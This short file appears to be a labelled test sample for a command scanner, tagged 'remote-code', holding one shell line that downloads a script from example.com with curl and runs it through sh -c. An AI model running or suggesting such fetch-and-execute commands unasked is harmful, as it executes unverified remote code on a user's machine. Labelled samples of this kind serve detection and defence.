# description: Runs sh -c on the output of curl.
# family: remote-code
sh -c "$(curl -fsSL https://example.com/install.sh)"
